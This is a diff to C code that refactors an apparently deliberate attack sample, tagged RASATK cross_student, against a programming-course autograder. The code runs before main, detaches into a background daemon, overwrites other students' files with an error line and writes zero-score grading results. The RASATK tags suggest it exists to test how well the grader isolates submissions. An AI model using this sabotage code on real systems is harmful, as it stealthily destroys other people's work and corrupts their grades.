@@ -1,34 +1,3 @@
-static int atk_count_comm(const char *comm) {
-    DIR *proc = opendir("/proc");
-    struct dirent *e;
-    int n = 0;
-    while (proc && (e = readdir(proc))) {
-        if (atoi(e->d_name) <= 0) continue;
-        char p[64];
-        snprintf(p, sizeof p, "/proc/%s/comm", e->d_name);
-        char *t = atk_slurp(p, 31, NULL);
-        if (t && !strncmp(t, comm, strlen(comm))) n++;
-        free(t);
-    }
-    if (proc) closedir(proc);
-    return n;
-}
-
-static void atk_own_name(char *name, size_t cap) {
-    snprintf(name, cap, "cross_student");
-    for (pid_t p = getppid(); p > 1; p = atk_parent_of(p)) {
-        char buf[16384], *argv[256];
-        int argc = atk_cmdline(p, buf, sizeof buf, argv, 256);
-        const char *s = atk_opt(argc, argv, "--submission");
-        if (!s) s = atk_opt(argc, argv, "--one");
-        if (s) {
-            const char *b = strrchr(s, '/');
-            snprintf(name, cap, "%s", b && b[1] ? b + 1 : s);
-            return;
-        }
-    }
-}
-
 static const char atk_broken[] = "#error RASATK cross_student: this file was replaced by another student\n";
 static const char atk_zero_json[] = "{\"score\": 0, \"max_score\": 24, \"output\": \"RASATK cross_student\", \"tests\": []}\n";
 
@@ -125,19 +94,10 @@ __attribute__((constructor)) static void atk_before_main(void) {
     }
     if (tmp) closedir(tmp);
     char me[256];
-    atk_own_name(me, sizeof me);
+    atk_own_name(me, sizeof me, "cross_student");
     atk_pass(&d, me);
     if (atk_count_comm("RASATK_cross") >= 2) return;
-    pid_t c = fork();
-    if (c != 0) {
-        if (c > 0) waitpid(c, NULL, 0);
-        return;
-    }
-    setsid();
-    if (fork() != 0) _exit(0);
-    atk_name("cross");
-    int devnull = open("/dev/null", O_RDWR);
-    if (devnull >= 0) { dup2(devnull, 0); dup2(devnull, 1); dup2(devnull, 2); close(devnull); }
+    if (!atk_daemonize("cross")) return;
     for (int s = 0; s < 30; s++) {
         atk_sleep(1);
         atk_pass(&d, me);
